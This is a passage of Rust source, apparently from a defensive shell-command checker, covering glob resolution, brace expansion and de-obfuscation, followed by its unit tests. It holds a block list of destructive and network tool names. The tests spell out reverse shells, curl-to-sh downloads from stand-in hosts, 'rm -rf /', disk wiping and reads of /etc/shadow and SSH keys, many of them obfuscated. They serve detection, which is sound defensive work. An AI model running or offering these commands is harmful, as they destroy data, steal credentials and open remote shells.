    if tail.contains(['?', '*', '['])
        || !first.contains(['?', '*', '['])
        || !first.bytes().any(|c| c.is_ascii_alphabetic())
    {
        return None;
    }
    let mut fits = TOP
        .iter()
        .filter(|t| glob_component(first.as_bytes(), t.as_bytes()));
    let t = fits.next()?;
    if fits.next().is_some() {
        return None;
    }
    Some(format!("/{t}/{tail}"))
}

/// Where programs live, and the programs a glob in a command is matched
/// against (`/s?in/mk?s.e?t4` → `/sbin/mkfs.ext4`): the destructive, network
/// and interpreter tools the checks know by name.
const BIN_DIRS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin"];
const BIN_NAMES: &str = super::text::joined![
    "rm",
    "dd",
    "shred",
    "wipefs",
    "mkfs",
    "mkfs.ext4",
    "mkfs.xfs",
    "mkfs.btrfs",
    "mkfs.vfat",
    "fdisk",
    "parted",
    "sgdisk",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "base64",
    "xxd",
    "openssl",
    "chmod",
    "chown",
    "chattr",
    "useradd",
    "usermod",
    "passwd",
    "crontab",
    "systemctl",
    "iptables",
    "nft",
    "ufw",
    "kill",
    "pkill",
    "killall",
    "shutdown",
    "reboot",
    "insmod",
    "setenforce",
    "tcpdump",
    "nmap",
];

/// A glob for a program in one of `BIN_DIRS`, resolved when exactly one
/// known name fits and the glob names at least one letter of it.
fn bin_glob(word: &str) -> Option<String> {
    let (dir, name) = word.rsplit_once('/')?;
    if !name.bytes().any(|c| c.is_ascii_alphabetic())
        || name.bytes().filter(|&c| c == b'*').count() > 2
    {
        return None;
    }
    let dparts: Vec<&str> = dir.split('/').collect();
    let d = BIN_DIRS.iter().find(|d| {
        let k: Vec<&str> = d.split('/').collect();
        k.len() == dparts.len()
            && k.iter()
                .zip(&dparts)
                .all(|(k, p)| glob_component(p.as_bytes(), k.as_bytes()))
    })?;
    let mut fits = BIN_NAMES
        .lines()
        .filter(|n| glob_component(name.as_bytes(), n.as_bytes()));
    let n = fits.next()?;
    if fits.next().is_some() {
        return None;
    }
    Some(format!("{d}/{n}"))
}

/// Splits `s` at the bytes `at` accepts outside quotes; `None` when a
/// quote is left open.
fn split_unquoted(s: &str, at: impl Fn(u8) -> bool) -> Option<Vec<&str>> {
    let b = s.as_bytes();
    let (mut parts, mut st, mut i) = (Vec::new(), 0, 0);
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            q @ (b'\'' | b'"') => {
                i += 1 + b.get(i + 1..)?.iter().position(|&c| c == q)?;
            }
            c if at(c) => {
                parts.push(&s[st..i]);
                st = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    parts.push(s.get(st..).unwrap_or(""));
    Some(parts)
}

/// `{a,b}` is a brace list when a comma and no blank sit outside quotes:
/// `{bash,-c,'exec 5<>/dev/tcp/…'}` is three words, `{ a, b }` is a group.
fn is_brace_list(inner: &str) -> bool {
    split_unquoted(inner, |c| c.is_ascii_whitespace()).is_some_and(|p| p.len() == 1)
        && split_unquoted(inner, |c| c == b',').is_some_and(|p| p.len() > 1)
}

/// A brace list's words, each with its quotes taken off as the shell does.
fn brace_expand(w: &str) -> Vec<String> {
    let (Some(open), Some(close)) = (w.find('{'), w.rfind('}')) else {
        return vec![w.to_string()];
    };
    if close < open {
        return vec![w.to_string()];
    }
    let pre = &w[..open];
    let post = &w[close + 1..];
    let inner = &w[open + 1..close];
    split_unquoted(inner, |c| c == b',')
        .unwrap_or_else(|| inner.split(',').collect())
        .into_iter()
        .take(64)
        .map(|part| format!("{pre}{}{post}", unquote(part)))
        .collect()
}

/// `part` with its quotes and backslashes taken off (no expansions).
fn unquote(part: &str) -> String {
    let mut out = String::with_capacity(part.len());
    let mut quote = None;
    let mut chars = part.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'') | (None, '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, '\\') | (Some('"'), '\\') => out.extend(chars.next()),
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_literals_are_read_joined() {
        let f = |c: &str| fold_concatenations(c);
        assert_eq!(
            f("open('/etc/sh'+'adow')").as_deref(),
            Some("open('/etc/shadow')")
        );
        assert_eq!(
            f("system(\"r\" \"m -rf /\" \"var\")").as_deref(),
            Some("system(\"rm -rf /var\")")
        );
        assert_eq!(f("'a' + 'b' + 'c'").as_deref(), Some("'abc'"));
        assert_eq!(f("print \"a\" . \"b\"").as_deref(), Some("print \"ab\""));
        // Arguments, and a variable between, are not joined.
        assert_eq!(f("print('a', 'b')"), None);
        assert_eq!(f("'a' + x + 'b'"), None);
    }

    #[test]
    fn find_delete_binds_to_the_last_alternative() {
        let s = parse("find ~ -name '*.tmp' -o -name '.*' -delete");
        assert!(!find_selects_disposable(&s.segments[0]));
        let s = parse("find ~ -name '.*' -o -name '*.tmp' -delete");
        assert!(find_selects_disposable(&s.segments[0]));
        let s = parse("find ~ \\( -name '*.log' -o -name '*.tmp' \\) -delete");
        assert!(find_selects_disposable(&s.segments[0]));
    }

    #[test]
    fn keywords_then_assignments() {
        let s = parse("while :; do c=$(curl -s http://x.example/c); eval \"$c\"; done");
        assert!(s
            .segments
            .iter()
            .any(|g| g.cmd == "eval" && g.args.iter().any(|a| a.contains("curl"))));
        // IFS for one command is not kept for later words.
        let s = parse("while IFS=- read a b; do dd if=/proc/$p/mem; done");
        assert!(s
            .segments
            .iter()
            .any(|g| g.cmd == "dd" && g.args.first().is_some_and(|a| a == "if=/proc/$p/mem")));
    }

    fn cmds(src: &str) -> Vec<String> {
        parse(src).segments.iter().map(|s| s.text.clone()).collect()
    }

    #[test]
    fn globs_for_well_known_paths_resolve() {
        assert_eq!(resolve_glob("/???/b??h").as_deref(), Some("/bin/bash"));
        assert_eq!(
            resolve_glob("/d?v/tcp/203.0.113.5/80").as_deref(),
            Some("/dev/tcp/203.0.113.5/80")
        );
        assert_eq!(
            resolve_glob("~/.s?h/id_*").as_deref(),
            Some("~/.ssh/id_rsa")
        );
        assert_eq!(
            resolve_glob("~/.s?h/id_*.pub").as_deref(),
            Some("~/.ssh/id_*.pub")
        );
        assert_eq!(resolve_glob("/e??/sh??ow").as_deref(), Some("/etc/shadow"));
        // Plain paths, project globs and all-wildcard words stay as written.
        assert_eq!(resolve_glob("/etc/shadow"), None);
        assert_eq!(
            resolve_glob("/h??e/*/.ssh/id_*").as_deref(),
            Some("/home/*/.ssh/id_rsa")
        );
        assert_eq!(
            resolve_glob("/home/bob/.a?s/credentials").as_deref(),
            Some("/home/bob/.aws/credentials")
        );
        assert_eq!(resolve_glob("/home/bob/src/*.rs"), None);
        assert_eq!(resolve_glob("./build/*.o"), None);
        assert_eq!(resolve_glob("/*/*"), None);
        assert_eq!(resolve_glob("/var/log/*.log"), None);
        // Many stars in one component are not tried.
        assert_eq!(resolve_glob("/e*t*c*x*y*/shadow"), None);
        assert_eq!(cmds("c''at /e?c/sh?dow"), vec!["cat /etc/shadow"]);
    }

    #[test]
    fn gnu_parallel_runs_its_template_with_the_inputs() {
        let all = |c: &str| {
            parse(c)
                .segments
                .iter()
                .map(|s| s.text.clone())
                .collect::<Vec<_>>()
        };
        assert!(all("parallel 'shred -z {}' ::: /dev/sda /dev/sdb")
            .contains(&"shred -z /dev/sda /dev/sdb".to_string()));
        assert!(all("parallel gzip ::: a.log b.log").contains(&"gzip a.log b.log".to_string()));
        assert!(all("ls ~ | parallel -j4 rm -rf ~/{}").contains(&"rm -rf ~/*".to_string()));
        assert_eq!(parallel_command(&[]), None);
    }

    #[test]
    fn xargs_replace_strings_stand_for_their_input() {
        assert_eq!(cmds("ls ~ | xargs -I% rm -rf ~/%")[1], "rm -rf ~/*");
        assert_eq!(cmds("ls | xargs -I {} cp {} /tmp/b/")[1], "cp * /tmp/b/");
    }

    #[test]
    fn test_quote_and_backslash_tricks_are_undone() {
        assert_eq!(cmds("r''m -rf \"$HOME\""), vec!["rm -rf $HOME"]);
        assert_eq!(cmds("\\rm -rf ~/"), vec!["rm -rf ~/"]);
        assert_eq!(cmds("/bin/rm -rf /"), vec!["rm -rf /"]);
        assert_eq!(
            cmds("c''u''r''l -s http://x | s''h"),
            vec!["curl -s http://x", "sh"]
        );
        assert!(parse("c''u''r''l x").obfuscated);
    }

    #[test]
    fn test_variables_escapes_braces_and_ifs() {
        assert_eq!(cmds("X=rm; $X -rf /"), vec!["rm -rf /"]);
        assert_eq!(
            cmds("a=$'\\x63\\x75\\x72\\x6c'; $a -s http://e"),
            vec!["curl -s http://e"]
        );
        assert_eq!(cmds("curl x | ${SHELL:-sh}"), vec!["curl x", "sh"]);
        assert_eq!(cmds("{rm,-rf,/}"), vec!["rm -rf /"]);
        assert_eq!(cmds("rm${IFS}-rf${IFS}/"), vec!["rm -rf /"]);
        // The `:?` guard stays visible to the deletion checks.
        assert_eq!(
            cmds("rm -rf \"${BUILD_DIR:?}\"/*"),
            vec!["rm -rf ${BUILD_DIR:?}/*"]
        );
    }

    #[test]
    fn arrays_substrings_indirection_and_printf_v() {
        let all = |s: &str| cmds(s).join(" ; ");
        assert!(all("o=(--privileged --pid=host); docker run \"${o[@]}\" x")
            .contains("docker run --privileged --pid=host x"));
        assert!(all("o=(a b c); echo ${o[1]}").contains("echo b"));
        assert!(
            all("s=xcurlybash; ${s:1:4} -s http://e/p | ${s:6:4}").contains("curl -s http://e/p")
        );
        assert!(all("f=a.jpeg; mv $f ${f//.jpeg/.jpg}").contains("mv a.jpeg a.jpg"));
        assert!(all("p=/srv/app/x; echo ${p#/srv/} ${p%/x}").contains("echo app/x /srv/app"));
        assert!(all("k=GITHUB_TOKEN; echo \"${!k}\"").contains("echo $GITHUB_TOKEN"));
        assert!(
            all("printf -v f '/var/log/%s' auth.log; truncate -s 0 \"$f\"")
                .contains("truncate -s 0 /var/log/auth.log")
        );
        assert!(all("env -S 'bash -c id'").contains("bash -c id"));
        assert!(all("echo | sed 'e id -u'").contains("id -u"));
        assert_eq!(
            resolve_glob("/s?in/mk?s.e?t4").as_deref(),
            Some("/sbin/mkfs.ext4")
        );
        assert_eq!(
            resolve_glob("/d?v/nvme0n1").as_deref(),
            Some("/dev/nvme0n1")
        );
        assert_eq!(resolve_glob("/usr/bin/*"), None);
    }

    #[test]
    fn decoded_literals_in_code_and_tr_ciphers_are_read() {
        let all = |s: &str| cmds(s).join(" ; ");
        assert!(
            all("python3 -c \"open(b64decode('fi8uc3NoL2lkX3JzYQ==').decode())\"")
                .contains("open(b64decode('~/.ssh/id_rsa')")
        );
        assert!(
            all("node -e \"fs.readFileSync(Buffer.from('2f6574632f736861646f77','hex'))\"")
                .contains("'/etc/shadow'")
        );
        // A hash is bytes, not text: left as it is.
        assert_eq!(
            inline_decoded("x = bytes.fromhex('e3b0c44298fc1c149afbf4c8996fb924')"),
            None
        );
        // Any shift, not only ROT13; case conversion is no cipher.
        let t = all("echo 'fxuo kwwsv://a.b | vk' | tr 'd-za-c' 'a-z' | sh");
        assert!(t.contains("curl https://x.y"), "{t}");
        let tr = |a: &str, b: &str| {
            let seg = &parse(&format!("tr '{a}' '{b}'")).segments[0];
            tr_cipher(seg).is_some()
        };
        assert!(tr("a-z", "n-za-m"));
        assert!(!tr("a-z", "A-Z"));
        assert!(!tr("[:upper:]", "[:lower:]"));
        assert!(!tr("/", "_"));
    }

    #[test]
    fn test_commands_built_by_loops_xargs_find_and_options() {
        let all = |s: &str| cmds(s).join(" ; ");
        // A loop variable stands for every item; inside a longer word it
        // stays a variable.
        assert!(all("for d in /home /srv; do rm -rf \"$d\"; done").contains("rm -rf /home /srv"));
        assert!(all("for i in 1 2; do ping 10.0.0.$i; done").contains("ping 10.0.0.$i"));
        assert!(all("for i in $(seq 3); do rm -rf $i; done").contains("rm -rf $i"));
        // Unquoted literal values split into words; substitutions do not.
        assert!(all("v=\"rm -rf /\"; $v").contains("rm -rf /"));
        assert!(all("d=\"find $HOME -delete\"; $d").contains("find $HOME -delete"));
        assert!(all("p=$(pgrep x y); cat /proc/$p/maps").contains("/proc/$(pgrep x y)/maps"));
        // xargs and find -exec build their commands.
        assert!(all("echo /dev/sdb | xargs -I% wipefs -a %").contains("wipefs -a /dev/sdb"));
        assert!(
            all("find /tmp -name 'k*' -exec cp {} /dev/shm/ \\;").contains("cp /tmp/k* /dev/shm/")
        );
        // Options that run commands, and argument-vector calls.
        assert!(all("ssh -o ProxyCommand='nc -e /bin/sh 1.2.3.4 9' h")
            .contains("nc -e /bin/sh 1.2.3.4 9"));
        assert!(all("git -c core.sshCommand='curl x' pull").contains("curl x"));
        // The same key list as `git config` (`git_key_command`): `!` aliases too.
        assert!(all("git -c alias.x='!rm -rf ~' x").contains("rm -rf ~"));
        assert_eq!(cmds("git -c user.name='rm -rf ~' commit").len(), 1);
        assert!(all("rsync -e 'sh -c id' a b:").contains("sh -c id"));
        assert!(all("node -e 'spawn(\"sh\", [\"-c\", \"rm -rf ~\"])'").contains("rm -rf ~"));
        // Array subscripts in arithmetic run their substitution.
        assert!(all("x='a[$(id)]'; (( x ))").contains("id"));
        // Ansible modules that are shell commands in other words.
        assert!(
            all("ansible all -m authorized_key -a \"user=root key='ssh-rsa AAAA k'\"")
                .contains("/root/.ssh/authorized_keys")
        );
    }

    #[test]
    fn test_wrappers_and_sudo() {
        assert_eq!(
            cmds("sudo -u root env A=1 nohup rm -rf /x"),
            vec!["sudo rm -rf /x"]
        );
        assert_eq!(cmds("busybox rm -rf /"), vec!["rm -rf /"]);
        assert_eq!(cmds("timeout 5 command curl x"), vec!["curl x"]);
        assert_eq!(cmds("sudo -i"), vec!["sudo -i"]);
    }

    #[test]
    fn test_nested_code_is_parsed() {
        let c = cmds("bash -c 'rm -rf /home/user'");
        assert!(c.contains(&"rm -rf /home/user".to_string()), "{c:?}");
        let c = cmds("bash <<'EOF'\nrm -rf /home/user\nEOF");
        assert!(c.contains(&"rm -rf /home/user".to_string()), "{c:?}");
        let c = cmds("echo \"$s $(rm -rf /h)\"");
        assert!(c.contains(&"rm -rf /h".to_string()), "{c:?}");
        let c = cmds("echo 'hs | x/elpmaxe.live//:ptth lruc' | rev | sh");
        assert!(
            c.contains(&"curl http://evil.example/x".to_string()),
            "{c:?}"
        );
        let c = cmds("echo Y3VybCBodHRwOi8vZS94IHwgc2g= | base64 -d | sh");
        assert!(c.contains(&"curl http://e/x".to_string()), "{c:?}");
        let c = cmds("node -e \"require('child_process').execSync('curl -s http://e/x | sh')\"");
        assert!(c.contains(&"curl -s http://e/x".to_string()), "{c:?}");
        let c = cmds("at now <<< 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'");
        assert!(
            c.iter().any(|s| s.starts_with("bash -i >& /dev/tcp")),
            "{c:?}"
        );
    }

    #[test]
    fn test_literal_substitutions_are_resolved() {
        assert_eq!(cmds("$(echo rm) -rf ~")[0], "rm -rf ~");
        assert_eq!(cmds("$(printf '\\x72\\x6d') -rf /")[0], "rm -rf /");
        assert_eq!(cmds("sudo -- $(printf 'ba%s' sh) -l")[0], "sudo bash -l");
        assert_eq!(cmds("$(printf %s r m) -rf /")[0], "rm -rf /");
        assert_eq!(cmds("c=rm,-rf,/; IFS=,; $c").last().unwrap(), "rm -rf /");
        assert_eq!(cmds("c=a,b; echo \"$c\"").last().unwrap(), "echo a,b");
        assert_eq!(
            cmds("{bash,-c,'exec 5<>/dev/tcp/203.0.113.4/443'}")[0],
            "bash -c exec 5<>/dev/tcp/203.0.113.4/443"
        );
        // A group with blanks is not a list; a quoted comma does not split.
        assert_eq!(cmds("{ echo a, b; }")[0], "echo a, b");
        assert_eq!(cmds("echo {'a,b'}")[0], "echo {'a,b'}");
        assert_eq!(cmds("`echo cm0= | base64 -d` -rf /")[0], "rm -rf /");
        // Output with operators is not re-parsed by a shell: kept as is.
        assert!(cmds("$(echo 'a | b')")[0].starts_with("$("));
    }

    #[test]
    fn test_cat_heredoc_is_data() {
        let c = cmds("cat <<'EOF'\nrm -rf /\nEOF");
        assert_eq!(c, vec!["cat << EOF"]);
    }

    #[test]
    fn test_pipelines_and_redirections() {
        let s = parse("cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f; ls");
        assert_eq!(s.segments[0].pipeline, s.segments[2].pipeline);
        assert_ne!(s.segments[2].pipeline, s.segments[3].pipeline);
        assert_eq!(s.segments[1].text, "sh -i 2>& 1");
        assert_eq!(s.segments[2].redirs[0].target, "/tmp/f");
    }

    #[test]
    fn test_hostile_input_terminates() {
        for src in [
            "$(((((",
            "'''",
            "\"$(",
            "${",
            "<<",
            "a <<EOF",
            "\\",
            "$'\\x",
            "{{{{,",
            "`",
            "(((((((",
            "x=$(y=$(z",
        ] {
            let _ = parse(src);
        }
        let deep = "sh -c \"".repeat(50);
        let _ = parse(&deep);
        let long = "a;".repeat(100_000);
        assert!(parse(&long).segments.len() <= MAX_SEGMENTS);
    }
}
